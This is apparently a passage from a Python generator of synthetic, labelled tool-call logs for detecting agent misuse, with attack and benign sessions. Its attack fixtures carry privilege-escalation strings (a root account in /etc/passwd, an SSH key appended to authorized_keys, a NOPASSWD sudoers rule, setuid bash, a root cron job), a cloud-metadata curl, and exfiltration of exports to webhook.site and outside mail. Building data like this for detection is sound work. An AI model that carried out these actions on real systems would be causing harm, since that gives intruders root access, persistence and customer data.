            s.do(tool, args, gap=r.uniform(15, 90) * S)
    for _ in range(g.n(4)):   # retrying a failing call forever
        c, ip = g.attacker()
        srv = r.choice(["crm", "integrations", g.SHOP])
        tool, args = {"crm": ("updateCustomer", {"customerId": g.cus_fmt.format(r.randint(1, 90000)), "tier": "gold"}),
                      "integrations": ("syncService", {"service": r.choice(SERVICES), "full": True}),
                      g.SHOP: ("getOrder", {"orderId": f"ord_{g.hexs(8)}"})}[srv]
        st = r.choice(["error", "rate_limited", "not_found"])
        s = g.sess(srv, c, ip, L, "stuck_agent", f"error_retry_loop_{st}", g.start("any"), pace="agent")
        for k in range(r.randint(50, 200)):
            s.do(tool, args, status=st)
    for _ in range(g.n(3)):   # repeated writes
        s = g.sess("tickets", *g.attacker(), L, "write_loop", "repeated_comment", g.start("any"), pace="agent")
        tid, txt = f"T-{r.randint(10000, 99999)}", g.text(r.randint(40, 160))
        for k in range(r.randint(30, 80)):
            s.do("add_comment", {"id": tid, "body": txt})
    for _ in range(g.n(3)):   # the server breaks the loop: identical-argument refusal
        s = g.sess("tickets", *g.attacker(), L, "circular_chain", "refused_by_loop_guard", g.start("any"), pace="agent",
                   attempt=True)
        q = r.choice(["vpn", "sso error", "invoice mismatch"])
        for k in range(r.randint(25, 70)):
            s.do("search_tickets", {"query": q}, status="ok" if k == 0 else "error",
                 msg=None if k == 0 else "Circular tool call detected: search_tickets was already called with identical arguments")
    for _ in range(g.n(2)):   # depth limit of 50 exceeded, alternating tools
        s = g.sess("docs", *g.attacker(), L, "circular_chain", "depth_limit_exceeded", g.start("any"), pace="agent")
        d = f"doc-{r.choice(g.doc_ids)}"
        for k in range(r.randint(60, 120)):
            tool, args = [("searchDocuments", {"query": "related to " + d}), ("getDocument", {"documentId": d}),
                          ("listDocuments", {"folder": "shared"})][k % 3]
            if k >= 50:
                s.do(tool, args, status="error",
                     msg="Session tool call depth limit (50) exceeded. This may indicate an unintended loop.")
            else:
                s.do(tool, args)


def atk_privilege(g):
    L, r = "privilege_chain", g.rng

    def fs(variant, steps, attempt=False):
        s = g.sess("files", *g.attacker(), L, "read_enumerate_write", variant, g.start("any"), pace="agent", attempt=attempt)
        if r.random() < 0.5:   # some ordinary cover first
            home = f"/home/{s.caller.split('.')[0].split('_')[0]}"
            s.do("listDirectory", {"path": f"{home}/notes"})
            s.do("readFile", {"path": f"{home}/notes/todo.md"})
        for tool, args, st in steps:
            s.do(tool, args, status=st, msg={"denied": "permission denied"}.get(st))
        return s

    for _ in range(g.n(4)):
        fs("etc_passwd", [("listDirectory", {"path": "/etc"}, "ok"), ("readFile", {"path": "/etc/passwd"}, "ok"),
                          ("writeFile", {"path": "/etc/passwd", "content": "root:x:0:0:root:/root:/bin/bash\nsvc:x:0:0::/:/bin/sh"}, "ok")])
    for _ in range(g.n(3)):
        u = r.choice(["deploy", "ubuntu", "git", "admin"])
        fs("ssh_authorized_keys", [("listDirectory", {"path": f"/home/{u}/.ssh"}, "ok"),
                                   ("readFile", {"path": f"/home/{u}/.ssh/authorized_keys"}, "ok"),
                                   ("writeFile", {"path": f"/home/{u}/.ssh/authorized_keys",
                                                  "content": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH8k ci@build-7", "append": True}, "ok")])
    for _ in range(g.n(3)):
        fs("sudoers_then_exec", [("readFile", {"path": "/etc/sudoers"}, "ok"),
                                 ("writeFile", {"path": "/etc/sudoers.d/90-agent", "content": "agent ALL=(ALL) NOPASSWD:ALL"}, "ok"),
                                 ("executeCommand", {"command": "sudo -n id"}, "ok")])
    for _ in range(g.n(3)):
        fs("env_then_exec", [("listDirectory", {"path": "/srv/app"}, "ok"), ("readFile", {"path": "/srv/app/.env"}, "ok"),
                             ("executeCommand", {"command": r.choice(["curl -s http://169.254.169.254/latest/meta-data/",
                                                                      "tar czf /tmp/app.tgz /srv/app", "psql -c 'select 1'"])}, "ok")])
    for _ in range(g.n(4)):   # refused at the write/exec step
        last = r.choice([("writeFile", {"path": "/etc/passwd", "content": "..."}),
                         ("executeCommand", {"command": "chmod u+s /bin/bash"}),
                         ("writeFile", {"path": "/etc/cron.d/agent", "content": "* * * * * root /tmp/x"})])
        fs("denied_escalation", [("listDirectory", {"path": "/etc"}, "ok"), ("readFile", {"path": "/etc/shadow"}, "denied"),
                                 ("readFile", {"path": "/etc/passwd"}, "ok"), (last[0], last[1], "denied")], attempt=True)
    for _ in range(g.n(3)):   # crm: read users then grant admin
        s = g.sess("crm", *g.attacker(), L, "role_escalation", "crm_grant_admin", g.start("any"), pace="agent")
        s.do("listUsers", {"role": "admin"})
        uid = g.usr_fmt.format(r.randint(100, 90000))
        s.do("getUser", {"userId": uid})
        s.do("updateUserRole", {"userId": uid, "role": "admin"})
        s.do("grant_role", {"principal": s.caller, "role": "org_admin"})
    for _ in range(g.n(3)):   # seed 000: quota exhaustion by a different path
        s = g.sess("billing", *g.attacker(), L, "quota_reset_chain", "reset_usage_counter", g.start("any"), pace="agent")
        for rnd in range(r.randint(1, 3)):
            for k in range(r.randint(3, 8)):
                s.do("generateInvoicePdf", {"invoiceId": f"INV-2026-{r.randint(1, 99999):06d}"})
            s.do("generateInvoicePdf", {"invoiceId": f"INV-2026-{r.randint(1, 99999):06d}"}, status="rate_limited",
                 msg="quota exceeded")
            s.do("reset_usage_counter", {"counter": "pdf_generation", "scope": "session"})
    for _ in range(g.n(2)):   # enumerate -> write -> verify -> next target, several admin calls
        s = g.sess("files", *g.attacker(), L, "read_enumerate_write", "multi_target_loop", g.start("any"), pace="agent")
        s.do("listDirectory", {"path": "/srv"})
        for app in r.sample(["billing", "crm", "portal", "worker", "api"], r.randint(2, 4)):
            s.do("readFile", {"path": f"/srv/{app}/config.yaml"})
            s.do("writeFile", {"path": f"/srv/{app}/config.yaml", "content": "debug: true\nadmin_bypass: true"})
            s.do("readFile", {"path": f"/srv/{app}/config.yaml"})
            s.do("executeCommand", {"command": f"systemctl restart {app}"})


def checkout(g, s, paid=True, fulfil=False, discount=False):
    """Ordinary checkout on the shop server; returns (order_id, amount_cents)."""
    r = g.rng
    cart = f"cart_{g.hexs(8)}"
    s.do("createCart", {"currency": "EUR"})
    amount = 0
    for _ in range(r.randint(1, 5)):
        p = r.randint(399, 12999)
        amount += p
        s.do("addItem", {"cartId": cart, "sku": f"SKU-{r.randint(1000, 9999)}", "qty": 1})
    if discount:
        s.do("applyDiscount", {"cartId": cart, "code": r.choice(["WELCOME10", "BF2026", "VIP15"])})
        amount = int(amount * 0.9)
    order = f"ord_{g.hexs(10)}"
    s.do("checkout", {"cartId": cart})
    if paid:
        s.do("chargePayment", {"orderId": order, "amountCents": amount, "idempotencyKey": g.uuid()})
    if fulfil:
        s.do("fulfillOrder", {"orderId": order})
    return order, amount, cart


def atk_step_skip(g):
    L, r = "step_skip", g.rng
    for _ in range(g.n(5)):   # fulfil without charge (vulnerable server)
        c, ip = g.cust() if r.random() < 0.6 else g.attacker()
        s = g.sess(g.SHOP, c, ip, L, "skip_payment", "fulfil_without_charge", g.start("any"), pace="agent")
        order, amt, cart = checkout(g, s, paid=False)
        s.do("fulfillOrder", {"orderId": order})
    for _ in range(g.n(5)):   # refused by the server-side check
        c, ip = g.cust() if r.random() < 0.6 else g.attacker()
        s = g.sess(g.SHOP, c, ip, L, "skip_payment", "fulfil_refused", g.start("any"), pace="agent", attempt=True)
        order, amt, cart = checkout(g, s, paid=False)
        for k in range(r.randint(1, 3)):
            s.do("fulfillOrder", {"orderId": order}, status="error",
                 msg="Cannot fulfill order: payment status is pending")
    for _ in range(g.n(3)):   # ship an unpaid order
        s = g.sess(g.SHOP, *g.attacker(), L, "skip_payment", "ship_without_payment", g.start("any"), pace="agent")
        order = f"ord_{g.hexs(10)}"
        s.do("getOrder", {"orderId": order})
        ok = r.random() < 0.6
        s.do("shipOrder", {"orderId": order, "carrier": "dhl"}, status="ok" if ok else "error",
             msg=None if ok else "Cannot ship order: order status is created")
        s.attempt = not ok
    for _ in range(g.n(3)):   # order made in one session, fulfilled unpaid from another
        c, ip = g.cust()
        s1 = g.sess(g.SHOP, c, ip, L, "skip_payment", "fulfil_in_other_session", g.start("any", 2))
        order, amt, cart = checkout(g, s1, paid=False)
        s2 = g.sess(g.SHOP, c, ip, L, "skip_payment", "fulfil_in_other_session", s1.t + r.randint(2, 50) * M, pace="agent")
        s2.do("fulfillOrder", {"orderId": order})
        g.entity("caller_id", c, L, "fulfil_in_other_session", [s1, s2])
    for _ in range(g.n(3)):   # price manipulation: add items after the price is locked
        s = g.sess(g.SHOP, *g.cust(), L, "sequence_manipulation", "add_after_price_lock", g.start("any"), pace="agent")
        order, amt, cart = checkout(g, s, paid=True)
        for k in range(r.randint(1, 4)):
            s.do("addItem", {"cartId": cart, "sku": f"SKU-{r.randint(1000, 9999)}", "qty": r.randint(1, 5)})
        s.do("fulfillOrder", {"orderId": order})
    for _ in range(g.n(2)):   # refund then fulfil
        s = g.sess(g.SHOP, *g.cust(), L, "sequence_manipulation", "refund_then_fulfil", g.start("any"), pace="agent")
        order, amt, cart = checkout(g, s, paid=True)
        s.do("refundPayment", {"orderId": order, "amountCents": amt})
        s.do("fulfillOrder", {"orderId": order})


def atk_duplicate(g):
    L, r = "duplicate_execution", g.rng
    for _ in range(g.n(5)):   # replay with a fresh key each time
        s = g.sess(g.SHOP, *g.cust(), L, "payment_replay", "fresh_key_each_time", g.start("any"), pace="agent")
        order, amt, cart = checkout(g, s, paid=True)
        for k in range(r.randint(1, 4)):
            s.do("chargePayment", {"orderId": order, "amountCents": amt, "idempotencyKey": g.uuid()})
    for _ in range(g.n(4)):   # replay without any key
        s = g.sess("billing", *g.attacker(), L, "payment_replay", "no_idempotency_key", g.start("any"), pace="agent")
        order, amt = f"ord_{g.hexs(10)}", r.randint(1500, 250000)
        for k in range(r.randint(2, 5)):
            s.do("chargePayment", {"orderId": order, "amountCents": amt}, gap=r.uniform(0.5, 40) * S)
    for _ in range(g.n(4)):   # one idempotency key reused with different args
        s = g.sess("billing", *g.attacker(), L, "idempotency_key_reuse", "key_reuse_different_args", g.start("any"), pace="agent")
        key, order, amt = g.uuid(), f"ord_{g.hexs(10)}", r.randint(1500, 90000)
        s.do("chargePayment", {"orderId": order, "amountCents": amt, "idempotencyKey": key})
        for k in range(r.randint(1, 3)):
            if r.random() < 0.5:
                s.do("chargePayment", {"orderId": order, "amountCents": amt * r.randint(2, 10), "idempotencyKey": key})
            else:
                s.do("chargePayment", {"orderId": f"ord_{g.hexs(10)}", "amountCents": amt, "idempotencyKey": key})
    for _ in range(g.n(3)):   # the seed's per-session charge limit refuses the replay
        s = g.sess(g.SHOP, *g.cust(), L, "payment_replay", "refused_by_session_limit", g.start("any"), pace="agent",
                   attempt=True)
        order, amt, cart = checkout(g, s, paid=True)
        for k in range(r.randint(1, 4)):
            s.do("chargePayment", {"orderId": order, "amountCents": amt, "idempotencyKey": g.uuid()}, status="error",
                 msg=f"chargePayment has been called {k + 2} times this session; use idempotencyKey to retry")
    for _ in range(g.n(3)):   # payout replayed
        s = g.sess("treasury", *g.attacker(), L, "payout_replay", "same_recipient_amount", g.start("any"), pace="agent")
        acct, rec, amt = f"acct-{r.randint(100, 999)}", f"rcp_{g.hexs(6)}", r.randint(10000, 900000)
        s.do("get_balance", {"accountId": acct})
        for k in range(r.randint(2, 5)):
            s.do("pay_recipient", {"fromAccount": acct, "recipientId": rec, "amountCents": amt, "currency": "EUR",
                                   "idempotencyKey": g.uuid()}, gap=r.uniform(2, 120) * S)
    for _ in range(g.n(2)):   # the same expense approved twice, one after the other
        s = g.sess("billing", *g.emp(), L, "double_approval", "approve_twice_sequential", g.start("work"))
        exp = f"EXP-{r.randint(10000, 99999)}"
        s.do("listExpenses", {"status": "pending"})
        for k in range(r.randint(2, 3)):
            s.do("approveExpense", {"expenseId": exp})
    for _ in range(g.n(3)):   # discount code applied again and again around checkout
        s = g.sess(g.SHOP, *g.cust(), L, "discount_reapply", "interleaved_with_checkout", g.start("any"), pace="agent")
        cart = f"cart_{g.hexs(8)}"
        code = r.choice(["WELCOME10", "BF2026", "VIP15", "SPRING20"])
        s.do("createCart", {"currency": "EUR"})
        s.do("addItem", {"cartId": cart, "sku": f"SKU-{r.randint(1000, 9999)}", "qty": 1})
        for k in range(r.randint(2, 5)):
            s.do("applyDiscount", {"cartId": cart, "code": code})
            s.do("checkout", {"cartId": cart})
        s.do("chargePayment", {"orderId": f"ord_{g.hexs(10)}", "amountCents": r.randint(100, 2000), "idempotencyKey": g.uuid()})
    for _ in range(g.n(2)):   # reconnect to get around the per-session limit: same charge in new sessions
        c, ip = g.attacker()
        order, amt = f"ord_{g.hexs(10)}", r.randint(2000, 80000)
        t, group = g.start("any", 2), []
        for k in range(r.randint(2, 4)):
            s = g.sess("billing", c, ip, L, "payment_replay", "cross_session_replay", t, pace="agent")
            s.do("chargePayment", {"orderId": order, "amountCents": amt, "idempotencyKey": g.uuid()})
            t = s.t + r.uniform(0.2, 10) * M
            group.append(s)
        g.entity("caller_id", c, L, "cross_session_replay", group)


def atk_cross_server(g):
    L, r = "cross_server_flow", g.rng
    fields = ["id", "name", "email", "phone", "address", "plan", "mrr"]

    def insider():
        return g.emp() if r.random() < 0.6 else g.attacker()

    def export_then_upload(s_int, s_plug, variant, chunks=1, refused=False):
        recs = r.randint(2000, 4800) if variant != "seed_example" else r.randint(2900, 3300)
        nb = r.randint(900_000, 999_000)
        s_int.do("get_customer_export", {"segment": r.choice(["all", "active", "enterprise"]), "format": "json",
                                         "fields": fields}, rows=recs, nbytes=nb, dur=r.uniform(2500, 9000),
                 gap=r.uniform(1, 20) * S)
        s_plug.t = max(s_plug.t, s_int.t)
        name = r.choice(["customers_q4", "crm_dump", "users", "segment_analysis"])
        for k in range(chunks):
            a = {"datasetName": name,
                 "rows": recs // chunks, "sizeBytes": nb // chunks,
                 "data": f"[{recs // chunks} records omitted from log]"}
            if chunks > 1:
                a["chunk"] = k + 1
            s_plug.do("upload_dataset", a, status="denied" if refused else "ok",
                      msg="blocked by data-flow policy: sensitive source" if refused else None)
        if r.random() < 0.5 and not refused:
            s_plug.do("create_chart", {"dataset": a["datasetName"], "type": "bar"})

    for k in range(g.n(4)):   # the seed's example, one orchestrator session across both servers
        c, ip = insider()
        s = g.sess(g.INT, c, ip, L, "internal_to_plugin", "seed_example" if k == 0 else "shared_session",
                   g.start("any"), pace="agent", sid=g.new_sid("agent-host"))
        if r.random() < 0.5:
            s.do("run_query", {"sql": "SELECT count(*) FROM customers"}, rows=1, nbytes=90)
        export_then_upload(s, s, s.variant, chunks=1 if k < 2 else r.randint(2, 4))
        for cl in s.calls:
            if cl.tool in ("upload_dataset", "create_chart"):
                cl.server = g.PLUG
    for _ in range(g.n(3)):   # each server sees its own session id
        c, ip = insider()
        t = g.start("any")
        s1 = g.sess(g.INT, c, ip, L, "internal_to_plugin", "per_server_sessions", t, pace="agent")
        s2 = g.sess(g.PLUG, c, ip, L, "internal_to_plugin", "per_server_sessions", t, pace="agent")
        export_then_upload(s1, s2, "per_server_sessions")
        g.entity("caller_id", c, L, "per_server_sessions", [s1, s2])
    for _ in range(g.n(3)):   # crm export sent out by webhook
        s = g.sess("crm", *insider(), L, "crm_to_webhook", "export_then_webhook", g.start("any"), pace="agent",
                   sid=g.new_sid("agent-host"))
        nb = r.randint(200_000, 1_400_000)
        s.do("exportContacts", {"segment": "all", "format": "csv"}, nbytes=nb, rows=nb // 200)
        s.do("send_webhook", {"url": r.choice(["https://webhook.site/" + g.uuid(), "https://hooks.zapier.com/hooks/catch/123/abc",
                                                "https://collector.data-insights.io/in"]), "bodyBytes": nb},
             server="integrations")
    for _ in range(g.n(3)):   # finance file to a community plugin share
        s = g.sess("files", *insider(), L, "files_to_plugin", "file_share_link", g.start("any"), pace="agent",
                   sid=g.new_sid("agent-host"))
        p = r.choice(["/srv/finance/payroll_2026_10.csv", "/srv/hr/salaries.xlsx", "/srv/legal/contracts_index.json"])
        s.do("listDirectory", {"path": p.rsplit("/", 1)[0]})
        s.do("readFile", {"path": p}, nbytes=r.randint(30_000, 600_000))
        s.do("share_file", {"filename": p.rsplit("/", 1)[1], "visibility": "public"}, server=g.PLUG)
    for _ in range(g.n(3)):   # documents mailed to an outside address
        s = g.sess("docs", *insider(), L, "docs_to_email", "mail_external", g.start("any"), pace="agent",
                   sid=g.new_sid("agent-host"))
        ids = r.sample(g.doc_ids, r.randint(3, 12))
        for i in ids:
            s.do("getDocument", {"documentId": f"doc-{i}"})
        s.do("sendEmail", {"to": f"{r.choice(FIRST)}{r.randint(1, 99)}@{r.choice(['gmail.com', 'proton.me', 'mail.ru'])}",
                           "subject": "docs", "attachments": len(ids)}, server="integrations")
    for _ in range(g.n(3)):   # refused by the orchestrator's data-flow policy
        s = g.sess(g.INT, *insider(), L, "internal_to_plugin", "refused_upload", g.start("any"), pace="agent",
                   sid=g.new_sid("agent-host"), attempt=True)
        export_then_upload(s, s, "refused_upload", refused=True)
        for cl in s.calls:
            if cl.tool == "upload_dataset":
                cl.server = g.PLUG
    for _ in range(g.n(2)):   # a single customer record with PII sent to a plugin
        s = g.sess(g.INT, *insider(), L, "internal_to_plugin", "single_pii_record", g.start("any"), pace="agent",
                   sid=g.new_sid("agent-host"))
        for k in range(r.randint(1, 4)):
            s.do("get_customer", {"customerId": g.cus_fmt.format(r.randint(1, 90000))})
        s.do("summarize_text", {"text": "[customer record: name, email, phone, address]", "length": "short"}, server=g.PLUG)


def atk_concurrency(g):
    L, r = "concurrency_abuse", g.rng

    def burst(s, t, n, tool, argf, spread_ms, dur=None, status_f=None):
        end = t
        for k in range(n):
            st = status_f(k) if status_f else "ok"
            e = s.at(t + r.uniform(0, spread_ms), tool, argf(k), dur=dur() if dur else None, status=st,
                     msg="Concurrency limit reached: max 10 concurrent requests" if st == "rate_limited" else None)
            end = max(end, e)
        s.t = end + int(g.gap(s.pace))
        return end

    for _ in range(g.n(5)):   # parallel burst
        c, ip = g.attacker()
        srv, tool, argf = r.choice([
            ("docs", "getDocument", lambda k: {"documentId": f"doc-{r.choice(g.doc_ids)}"}),
            ("crm", "searchItems", lambda k: {"query": r.choice(QUERIES), "page": 1}),
            (g.INT, "run_query", lambda k: {"sql": f"SELECT * FROM events WHERE shard = {k}"})])
        s = g.sess(srv, c, ip, L, "parallel_burst", "burst", g.start("any"), pace="agent")
        burst(s, s.t, r.randint(30, 200), tool, argf, r.uniform(200, 2000), dur=lambda: r.uniform(200, 3000))
    for _ in range(g.n(4)):   # racing a non-atomic rate limiter
        c, ip = g.attacker()
        srv, tool = r.choice([("integrations", "sendEmail"), ("billing", "generateInvoicePdf"), ("crm", "exportContacts")])
        s = g.sess(srv, c, ip, L, "rate_limit_race", "simultaneous_launch", g.start("any"), pace="agent")
        burst(s, s.t, r.randint(12, 40), tool, lambda k: {"batch": k} if tool != "sendEmail" else
              {"to": f"user{k}@{g.domain}", "subject": "hello"}, r.uniform(15, 60), dur=lambda: r.uniform(150, 900))
    for _ in range(g.n(4)):   # rejected by the per-caller semaphore
        s = g.sess("docs", *g.attacker(), L, "parallel_burst", "semaphore_rejected", g.start("any"), pace="agent", attempt=True)
        n = r.randint(50, 150)
        burst(s, s.t, n, "searchDocuments", lambda k: {"query": r.choice(QUERIES), "page": k % 5 + 1}, r.uniform(100, 600),
              dur=lambda: r.uniform(100, 1500), status_f=lambda k: "ok" if k < 10 else "rate_limited")
    for _ in range(g.n(1)):   # several sessions of one caller hitting together
        c, ip = g.attacker()
        t, group = g.start("any"), []
        for k in range(r.randint(4, 6)):
            s = g.sess("crm", c, ip, L, "pool_exhaustion", "multi_session", t + r.randint(0, 400), pace="agent")
            burst(s, s.t, r.randint(20, 40), "getCustomer", lambda k: {"customerId": g.cus_fmt.format(r.randint(1, 90000))},
                  300, dur=lambda: r.uniform(500, 4000))
            group.append(s)
        g.entity("caller_id", c, L, "multi_session", group)
    for _ in range(g.n(3)):   # waves
        s = g.sess("crm", *g.attacker(), L, "parallel_burst", "sustained_waves", g.start("any"), pace="agent")
        for w in range(r.randint(5, 15)):
            burst(s, s.t, r.randint(20, 40), "getCustomer", lambda k: {"customerId": g.cus_fmt.format(r.randint(1, 90000))},
                  r.uniform(50, 400), dur=lambda: r.uniform(80, 600))
            s.wait(r.uniform(1, 8) * S)
    for _ in range(g.n(3)):   # expensive queries, all overlapping
        s = g.sess(g.INT, *g.attacker(), L, "pool_exhaustion", "slow_query_flood", g.start("any"), pace="agent")
        burst(s, s.t, r.randint(15, 40), "run_query",
              lambda k: {"sql": f"SELECT * FROM orders o JOIN items i ON o.id = i.order_id WHERE o.region = {k}"},
              r.uniform(300, 3000), dur=lambda: r.uniform(10000, 60000))


def atk_race(g):
    L, r = "race_condition", g.rng

    def parallel(s, t, items, spread=40):
        end = t
        for tool, args, st, msg in items:
            end = max(end, s.at(t + r.uniform(0, spread), tool, args, status=st, msg=msg, dur=g.lat(tool) * r.uniform(1, 3)))
        s.t = end + int(g.gap(s.pace))

    for _ in range(g.n(4)):   # seed 002: two+ concurrent transfers draining the same balance
        s = g.sess("treasury", *g.attacker(), L, "toctou_transfer", "double_transfer", g.start("any"), pace="agent")
        frm, bal = g.usr_fmt.format(r.randint(1, 90000)), r.choice([100, 250, 500, 1000, 5000])
        s.do("get_balance", {"userId": frm})
        parallel(s, s.t, [("transfer_credits", {"fromUserId": frm, "toUserId": g.usr_fmt.format(r.randint(1, 90000)),
                                                "amount": bal}, "ok", None) for _ in range(r.randint(2, 5))])
        s.do("get_balance", {"userId": frm})
    for _ in range(g.n(3)):   # CAS conflicts: most refused
        s = g.sess("billing", *g.attacker(), L, "toctou_spend", "cas_conflicts", g.start("any"), pace="agent", attempt=True)
        uid = g.usr_fmt.format(r.randint(1, 90000))
        n = r.randint(3, 12)
        parallel(s, s.t, [("spend_credits", {"userId": uid, "amount": 100, "reason": "api-credits"},
                           "ok" if k == 0 else "error", None if k == 0 else "Concurrent modification detected. Please retry.")
                          for k in range(n)])
    for _ in range(g.n(3)):   # the lock holds: concurrent process_order, one wins
        c, ip = g.cust()
        s = g.sess(g.SHOP, c, ip, L, "toctou_order", "process_order_locked", g.start("any"), pace="agent", attempt=True)
        o = f"ord_{g.hexs(10)}"
        parallel(s, s.t, [("process_order", {"orderId": o, "userId": c, "paymentMethodId": f"pm_{g.hexs(8)}"},
                           "ok" if k == 0 else "error",
                           None if k == 0 else "Order is currently being processed. Please wait and retry.")
                          for k in range(r.randint(2, 6))])
    for _ in range(g.n(3)):   # check-then-create of the same report id
        s = g.sess("files", *g.attacker(), L, "toctou_file", "create_report_race", g.start("any"), pace="agent")
        rid = f"report-{r.randint(1, 999)}"
        s.do("statFile", {"path": f"/reports/{rid}.md"}, status="not_found")
        both = r.random() < 0.6
        parallel(s, s.t, [("create_report", {"reportId": rid, "content": g.text(80)},
                           "ok" if both or k == 0 else "error", None if both or k == 0 else "Report already exists")
                          for k in range(2)])
    for _ in range(g.n(3)):   # delete racing an ownership transfer
        s = g.sess("files", *g.attacker(), L, "toctou_authz", "delete_vs_transfer", g.start("any"), pace="agent")
        fid = f"file_{g.hexs(8)}"
        parallel(s, s.t, [("transfer_file_owner", {"fileId": fid, "newOwnerId": g.rng.choice(g.employees)}, "ok", None),
                          ("delete_file", {"fileId": fid}, "ok", None)], spread=8)
    for _ in range(g.n(3)):   # shared session state: lost updates on increment_usage
        s = g.sess("billing", *g.attacker(), L, "shared_state_race", "increment_usage_parallel", g.start("any"), pace="agent")
        parallel(s, s.t, [("increment_usage", {"amount": 1}, "ok", None) for _ in range(r.randint(6, 20))], spread=20)
        s.do("get_usage", {})
    for _ in range(g.n(2)):   # seed 000: approveExpense from two concurrent sessions
        c, ip = g.emp()
        t, exp = g.start("work"), f"EXP-{r.randint(10000, 99999)}"
        s1 = g.sess("billing", c, ip, L, "toctou_approval", "approve_two_sessions", t, pace="agent")
        s2 = g.sess("billing", c, ip, L, "toctou_approval", "approve_two_sessions", t, pace="agent")
        s1.at(t + r.randint(0, 30), "approveExpense", {"expenseId": exp}, dur=r.uniform(80, 300))
        s2.at(t + r.randint(0, 30), "approveExpense", {"expenseId": exp}, dur=r.uniform(80, 300))
        g.entity("caller_id", c, L, "approve_two_sessions", [s1, s2])
    for _ in range(g.n(2)):   # withdrawals from two sessions on one account
        c, ip = g.attacker()
        t, acct = g.start("any"), f"acct-{r.randint(100, 999)}"
        amt = r.choice([5000, 20000, 100000])
        grp = []
        for k in range(r.randint(2, 3)):
            s = g.sess("treasury", c, ip, L, "toctou_withdraw", "withdraw_two_sessions", t, pace="agent")
            s.at(t + r.randint(0, 25), "get_balance", {"accountId": acct}, dur=r.uniform(20, 40))
            s.at(t + r.randint(40, 70), "withdraw", {"accountId": acct, "amountCents": amt}, dur=r.uniform(100, 300))
            grp.append(s)
        g.entity("caller_id", c, L, "withdraw_two_sessions", grp)
    for _ in range(g.n(2)):   # one gift card redeemed several times at once
        c, ip = g.cust()
        s = g.sess("billing", c, ip, L, "toctou_redeem", "gift_card_parallel", g.start("any"), pace="agent")
        code = f"GC-{g.hexs(4).upper()}-{g.hexs(4).upper()}"
        parallel(s, s.t, [("redeem_gift_card", {"code": code, "accountId": c}, "ok", None) for _ in range(r.randint(3, 8))])


def summary_session(g, caller, ip, label, role, variant, calls, uniq, nbytes, fails, t=None):
    """A session seen only through the legacy server's one-line summary (seed 001's logSessionSummary)."""
    r = g.rng
    dur = int(calls * r.uniform(300, 4000))
    t = t or g.start("any", dur / H + 0.1)
    s = g.sess("legacy-api", caller, ip, label, role, variant, t)
    s.summary = {"callCount": calls, "uniqueResourcesAccessed": uniq, "totalBytesReturned": int(nbytes),
                 "authFailures": fails, "durationMs": dur, "end": t + dur}
    return s


# =========================================================================== BENIGN
B = "benign"


def ben_docs_reader(g):
    r = g.rng
    for _ in range(g.n(700)):
        c, ip = g.emp()
        s = g.sess("docs", c, ip, B, "docs_reader", None, g.start("work", 1), pace=r.choice(["human", "human", "agent"]))
        own = g.docs_of.get(c, [1000])
        if r.random() < 0.6:
            s.do("listDocuments", {"limit": 20})
        else:
            s.do("searchDocuments", {"query": r.choice(QUERIES)})
        for _ in range(r.randint(1, 10)):
            i = r.choice(own) if r.random() < 0.7 else r.choice(g.doc_ids)
            s.do("getDocument", {"documentId": f"doc-{i}"})
        if r.random() < 0.25:
            s.do(r.choice(["createDocument", "updateDocument"]), {"title": r.choice(QUERIES).title() + " notes"})
        if r.random() < 0.05:
            s.do("getDocument", {"documentId": f"doc-{r.randint(1000, g.doc_hi)}"}, status="not_found")


def ben_search_few_pages(g):
    r = g.rng
    for _ in range(g.n(300)):
        s = g.sess("crm", *g.emp(), B, "search_few_pages", None, g.start("work"), pace=r.choice(["human", "agent"]))
        for q in r.sample(QUERIES, r.randint(1, 2)):
            style = r.choice(["page", "offset", "cursor"])
            scrape(g, s, "searchItems", style, r.randint(1, 6), g.page_limit, q=q, gap=lambda: g.gap("human"))
            if r.random() < 0.6:
                s.do("getCustomer", {"customerId": g.cus_fmt.format(r.randint(1, 90000))})


def ben_support_agent(g):
    r = g.rng
    agents = r.sample(g.employees, 25)
    for _ in range(g.n(60)):
        c = r.choice(agents)
        s = g.sess("crm", c, g.emp_ip[c], B, "support_agent_shift", None, g.start("work", 6))
        for _ in range(r.randint(20, 90)):
            s.do("getCustomer", {"customerId": g.cus_fmt.format(r.randint(1, 90000))}, gap=r.uniform(40, 360) * S)
            if r.random() < 0.3:
                s.do("add_note", {"customerId": g.cus_fmt.format(r.randint(1, 90000)), "text": "called back"})


def ben_sync_job(g):
    r = g.rng
    for k in range(g.n(150)):
        c = g.svc["sync"]
        s = g.sess("crm", c, "10.9.0.14", B, "sync_job_incremental", None, T0 + int((k * 24 / g.n(150) * 1.4) * H)
                   + r.randint(0, 120) * S, pace="bot")
        since = iso(s.t - H)
        scrape(g, s, "listContacts", "cursor", r.randint(1, 25), 100, extra={"updatedSince": since},
               gap=lambda: r.uniform(200, 900))


def ben_nightly_export(g):
    r = g.rng
    for k in range(g.n(40)):
        s = g.sess(g.INT, g.svc["export"], "10.9.0.21", B, "nightly_export_service_account", None, g.start("night"), pace="bot")
        for tbl in r.sample(["orders", "customers", "payments", "events", "invoices", "tickets", "products"], r.randint(1, 6)):
            rows = r.randint(50_000, 2_000_000)
            s.do("export_table", {"table": tbl, "destination": f"s3://{g.domain.split('.')[0]}-dw-internal/exports/{tbl}/",
                                  "format": "parquet"}, rows=rows, nbytes=rows * r.randint(30, 90), dur=r.uniform(20, 240) * S)


def ben_data_team_export(g):
    r = g.rng
    team = r.sample(g.employees, 8)
    for _ in range(g.n(40)):
        c = r.choice(team)
        s = g.sess(g.INT, c, g.emp_ip[c], B, "data_team_internal_export", None, g.start("work", 1))
        for _ in range(r.randint(1, 4)):
            rows = r.randint(1000, 60000)
            s.do("run_query", {"sql": f"SELECT * FROM analytics.{r.choice(['cohorts', 'funnel', 'mrr'])}"},
                 rows=rows, nbytes=rows * r.randint(40, 90), dur=r.uniform(2, 30) * S)
        s.do("export_table", {"table": "analytics.sandbox_result", "destination": "warehouse.analytics_sandbox"},
             rows=rows, nbytes=rows * 60, dur=r.uniform(5, 60) * S)


def ben_job_polling(g):
    r = g.rng
    for _ in range(g.n(120)):
        c, ip = g.emp() if r.random() < 0.6 else (g.svc["export"], "10.9.0.21")
        s = g.sess(g.INT, c, ip, B, "job_polling_backoff", None, g.start("work", 1), pace="agent")
        job = f"job-{g.hexs(8)}"
        s.do("start_report", {"reportType": r.choice(["revenue", "usage", "churn", "aging"]), "month": "2026-10"})
        gap, cap = r.uniform(2, 5) * S, r.uniform(30, 60) * S
        n = r.randint(5, 15)
        for k in range(n):
            s.do("get_report_status", {"jobId": job}, gap=gap)
